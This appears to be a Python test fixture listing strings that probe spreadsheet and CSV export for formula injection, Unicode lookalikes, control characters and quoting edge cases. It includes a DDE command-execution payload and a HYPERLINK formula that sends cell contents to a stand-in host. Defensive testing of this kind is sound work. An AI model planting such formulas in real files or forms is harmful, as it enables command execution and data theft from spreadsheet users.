"""Texts that a spreadsheet might run, or that might break a file; every one may come from a form."""

TEXTS = [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "\t=1", "\r=1",
    "\n=1", " =1", "＝1", "－1", "＋1", "＠1", "\"=1", ";=1", "safe;=1", "safe;\"=1", "line\n=1", "line\r\n+1", "a\t@b",
    "'=1", "''=1", "\ufeff=1", "x|=1", "\u00a0=1", "\u2003-1", "\u3000@x", "\u200b=1", "\x1f=1", "\x85=1", "\u2028=1",
    "{=1}", "=1,2", "a,b", "a\"b", "\\N", "\\", "\\\\N", "\\.", "", " ", "NULL", "true", "007", "1e5", "2026-01-01",
    "http://example.org", "mailto:x", "internal:x", "İstanbul", "Ж", "日本", "😀", "a" * 40_000, "100%", "%s", "{0}",
]  # fmt: skip
